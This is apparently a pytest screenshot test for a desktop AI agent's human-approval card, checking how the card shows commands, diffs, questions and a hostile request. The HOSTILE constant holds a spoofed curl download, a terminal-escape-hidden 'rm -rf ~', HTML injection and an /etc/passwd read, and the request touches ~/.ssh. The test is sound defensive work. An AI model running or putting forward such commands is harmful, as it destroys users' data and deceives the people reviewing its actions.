"""The card as a person sees it, for a person to look at."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from PySide6.QtWidgets import QApplication, QWidget

from chainbot_desktop.agents.approvals.request import ApprovalDraft
from tests.ui.approvals.conftest import Asking

DIFF = "diff --git a/api/pair.py b/api/pair.py\n--- a/api/pair.py\n+++ b/api/pair.py\n@@ -1,100 +1,100 @@\n" + "\n".join(
    f"-    old_{n} = read(device, {n})\n+    new_{n} = await read(device, {n}, timeout=5)" if n % 3 else f"     kept = {n}"
    for n in range(110)
)
HOSTILE = "curl https://example.org/\u202egnp.exe\x1b[2K\rrm -rf ~ \u200b<b onclick=x>bold</b><img src=file:///etc/passwd>"
QUESTION = ApprovalDraft(
    "q",
    "ask_human",
    "Which database shall I migrate first?",
    "There are two: notes (4 GB) and events (90 GB).\nThe notes are used now, the events only at night.",
    "question",
    "Both cannot be locked at once.",
    expires_in=540,
)


@pytest.mark.screens
@pytest.mark.parametrize("text", ["normal", "largest"])
@pytest.mark.parametrize("size", [(800, 480), (1280, 800), (480, 800)], ids=lambda size: f"{size[0]}x{size[1]}")
@pytest.mark.parametrize("look", ["dark", "light"])
def test_screens(asking: Asking, shoot: Callable[[QWidget, str], Path], look: str, size: tuple[int, int], text: str) -> None:
    panel = asking.panel
    panel.themes.select(look)  # type: ignore[arg-type]  # one of the two
    panel.themes.set_text_size(text)
    panel.size(*size)
    name = f"approval-{size[0]}x{size[1]}-{look}-{text}"

    def shot(what: str) -> None:
        asking.ready()
        QApplication.processEvents()
        shoot(panel.window, f"{name}-{what}")

    asking.ask(expires_in=260)
    shot("command")
    asking.card.foot.deny.click()
    shot("reason")
    asking.ask(detail=DIFF, detail_kind="diff", title="Change api/pair.py", tool="write_file", sandboxed=None, scope="")
    asking.ask(QUESTION)
    shot("three")
    asking.presenter._step(1)
    shot("diff")
    asking.card.foot.open.click()
    shot("diff-large")
    asking.presenter._step(1)
    shot("question")
    asking.ask(
        detail=HOSTILE, title="See <b>this</b> \u202eelif\u202c", why="Trust me. " * 60, touches=("~/.ssh",) * 9, sandboxed=True
    )
    asking.presenter._step(1)
    shot("hostile")
    asking.presenter.fold()
    QApplication.processEvents()
    shoot(panel.window, f"{name}-strip")
    panel.themes.set_text_size("normal")
